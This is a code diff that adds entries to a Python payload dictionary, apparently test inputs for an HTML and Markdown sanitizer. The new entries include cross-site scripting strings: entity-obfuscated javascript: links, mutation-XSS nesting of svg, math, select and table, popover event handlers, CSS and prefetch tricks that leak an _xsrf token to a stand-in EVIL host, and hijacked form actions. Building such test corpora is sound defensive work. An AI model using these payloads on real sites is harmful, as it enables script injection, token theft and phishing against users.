@@ -76,6 +76,24 @@ PAYLOADS = {
     "lazy image": f"<img loading=lazy src={EVIL} ping={EVIL}>",
     "table background": f"<table background={EVIL}><td background={EVIL}>x</table>",
     "image that is SVG": f'<img src="{_SVG_URL}">',
+    "style that tells by attributes": (
+        f"<style>input[name=_xsrf][value^=a] {{ background: url({EVIL}) }}</style>"
+        f"<link rel=stylesheet href='data:text/css,input[value^=a]{{background:url({EVIL})}}'>"
+    ),
+    "style with a font": (
+        f"<style>@font-face {{ font-family: x; src: url({EVIL}) }} p {{ font-family: x }}</style>"
+        f"<p style='font-family:x;cursor:url({EVIL}),auto;list-style:url({EVIL})'>x</p>"
+    ),
+    "what is fetched ahead": (
+        "<script type=speculationrules>"
+        f'{{"prerender":[{{"source":"list","urls":["{EVIL}"]}}]}}</script>'
+        f"<link rel=preconnect href={EVIL}><link rel=modulepreload href={EVIL}>"
+    ),
+    "what tells of a visit": f"<a attributionsrc={EVIL} href=https://a.test>x</a>",
+    "image with everything": (
+        f"<img src=data:image/png;base64,aGk= srcset={EVIL} sizes=1 onload={RUN} usemap=#m ismap "
+        "crossorigin=use-credentials name=getElementById attributionsrc=https://evil.test>"
+    ),
     # links
     "javascript link": f"<a href=javascript:{RUN}>x</a>",
     "javascript link in Markdown": f"[x](javascript:{RUN})",
@@ -83,6 +101,11 @@ PAYLOADS = {
     "reference link": f"[x][r]\n\n[r]: javascript:{RUN}",
     "javascript link, tab": f"<a href='java\tscript:{RUN}'>x</a>",
     "javascript link, entity": f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
+    "javascript link, named entities": (
+        f"<a href='java&Tab;script&colon;{RUN}'>x</a> <a href='java&NewLine;script:{RUN}'>x</a> "
+        f"[x](java&Tab;script:{RUN}) [x](&#106;avascript:{RUN}) "
+        f"<a href='javascript&#0058{RUN}'>x</a>"
+    ),
     "javascript link, control": f"<a href='\x01javascript:{RUN}'>x</a>",
     "javascript link, wide": f"<a href='\uff4a\uff41vascript:{RUN}'>x</a>",
     "javascript link in an image": f"![x](javascript:{RUN})",
@@ -100,6 +123,14 @@ PAYLOADS = {
     "form": f"<form action={EVIL}><input name=password><button>Log in</button></form>",
     "form action": f"<form><button formaction=javascript:{RUN}>x</button></form>",
     "input image": f"<input type=image src={EVIL} onerror={RUN}>",
+    "a page's form": (
+        f"<input form=clone name=_xsrf><button form=clone formaction={EVIL}>Clone</button>"
+        "<label for=target>x</label><output form=clone name=target_path>x</output>"
+    ),
+    "popover": (
+        f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>"
+        f"<a interestfor=p href=#p onfocus={RUN}>x</a><dialog open onclose={RUN}>x</dialog>"
+    ),
     "is index": f"<isindex action=javascript:{RUN}>",
     "clobbering a document": "<img name=cookie><img name=getElementById><form id=body></form>",
     "clobbering by id": "<a id=config></a><a id=config name=url href=https://evil.test>x</a>",
@@ -114,11 +145,24 @@ PAYLOADS = {
         f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
     ),
     "svg with a link": f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
+    "svg with a description": (
+        f"<svg><desc><img src=x onerror={RUN}></desc><title><img src=x onerror={RUN}></title></svg>"
+    ),
+    "svg in mathematics in svg": (
+        f'<svg><foreignObject><math><mi><svg><style><img title="</style><img src onerror={RUN}>">'
+    ),
+    "select with a style": f"<select><option><style></select><img src=x onerror={RUN}></style>",
+    "select in a table": (
+        f"<table><select><tr><td><style></select><img src=x onerror={RUN}></style>"
+    ),
     "svg in a style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
     "math": f"<math href=javascript:{RUN}><mtext><img src=x onerror={RUN}></mtext></math>",
     "math with a table": (
         "<math><mtext><table><mglyph><style><!--</style>"
         f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
+    ),
+    "math with two tables": (
+        f"<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror={RUN}'>"
     ),
     "math with a form": (
         f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
